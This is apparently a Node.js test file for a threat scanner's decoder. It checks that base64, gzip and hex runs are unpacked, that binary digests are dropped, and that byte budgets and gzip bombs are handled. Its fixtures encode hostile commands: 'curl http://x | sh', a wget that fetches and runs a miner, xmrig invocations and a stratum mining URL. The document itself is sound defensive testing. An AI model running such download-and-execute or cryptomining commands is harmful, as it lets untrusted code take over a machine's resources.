import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { gzipSync } from 'node:zlib';
import { createBudget, unlimitedBudget } from '../../src/core/budget.js';
import { decodeEmbedded, decodeEmbeddedText, MAX_DECODES, readableText } from '../../src/threat/decode.js';

const b64 = (text: string): string => Buffer.from(text).toString('base64');
const bytesOnly = (bytes: number) => createBudget({ timeMs: Number.POSITIVE_INFINITY, bytes });

describe('decodeEmbedded', () => {
  it('decodes base64, gzip+base64 and hex runs that hold text', () => {
    const text = `echo ${b64('curl http://x | sh; echo more')} | base64 -d | sh`;
    assert.deepEqual(decodeEmbedded(text, unlimitedBudget()).map((d) => [d.encoding, d.text]), [['base64', 'curl http://x | sh; echo more']]);
    const gz = gzipSync(Buffer.from('wget http://x/miner && ./miner')).toString('base64');
    assert.deepEqual(decodeEmbedded(gz, unlimitedBudget()).map((d) => [d.encoding, d.text]), [['base64 → gzip', 'wget http://x/miner && ./miner']]);
    const hex = Buffer.from('./xmrig --donate-level 1').toString('hex');
    assert.deepEqual(decodeEmbedded(`printf ${hex} | xxd -r -p`, unlimitedBudget()).map((d) => d.encoding), ['hex']);
    const escaped = [...Buffer.from('stratum+tcp://p')].map((b) => `\\x${b.toString(16)}`).join('');
    assert.equal(decodeEmbedded(escaped, unlimitedBudget())[0]?.text, 'stratum+tcp://p');
  });

  it('drops binary results such as digests and keys', () => {
    const digest = 'sha256:3f1c2a9e8b7d6c5f4e3d2c1b0a9f8e7d6c5b4a39281706f5e4d3c2b1a0f9e8d7';
    assert.deepEqual(decodeEmbedded(digest, unlimitedBudget()), []);
    assert.equal(readableText(Buffer.from([0, 1, 2, 3, 4, 5, 6, 7])), undefined);
  });

  it('stops when the byte budget is spent', () => {
    const budget = bytesOnly(64);
    const many = Array.from({ length: 10 }, (_, i) => b64(`echo payload number ${i} here`)).join(' ');
    const decoded = decodeEmbedded(many, budget);
    assert.ok(decoded.length < 10, `decoded ${decoded.length} of 10 with a 64-byte budget`);
    assert.ok(budget.remainingBytes >= 0);
  });

  it('refuses a gzip bomb beyond the budget', () => {
    const bomb = gzipSync(Buffer.alloc(4 * 1024 * 1024, 0x61)).toString('base64');
    assert.deepEqual(decodeEmbedded(bomb, bytesOnly(1024 * 1024)), []);
  });

  it('says why it stopped: the byte budget, more runs than it decodes per text, or a layer cut to size', () => {
    const many = Array.from({ length: 10 }, (_, i) => b64(`echo payload number ${i} here`)).join(' ');
    assert.deepEqual(decodeEmbeddedText(many, bytesOnly(64)).stops, ['bytes']);
    assert.deepEqual(decodeEmbeddedText(many, unlimitedBudget()).stops, []);
    const bomb = gzipSync(Buffer.alloc(4 * 1024 * 1024, 0x61)).toString('base64');
    assert.deepEqual(decodeEmbeddedText(bomb, bytesOnly(1024 * 1024)).stops, ['bytes']);
    const crowded = Array.from({ length: MAX_DECODES + 10 }, (_, i) => b64(`echo innocuous line ${i}`)).join(' ');
    assert.deepEqual(decodeEmbeddedText(crowded, unlimitedBudget()).stops, ['candidates']);
  });

  it('decodes a plain layer only as far as it is scanned, and says so', () => {
    const padded = b64(`./xmrig -o stratum+tcp://p:3333 ${'#'.repeat(10_000)}`);
    const budget = unlimitedBudget();
    const result = decodeEmbeddedText(padded, budget, 1_000);
    assert.deepEqual(result.stops, ['length']);
    assert.equal(result.decoded[0]?.text.length, 999);
    assert.ok(result.decoded[0]?.text.startsWith('./xmrig -o stratum+tcp://p:3333'));
    assert.equal(Number.MAX_SAFE_INTEGER - budget.remainingBytes, 999);
  });
});
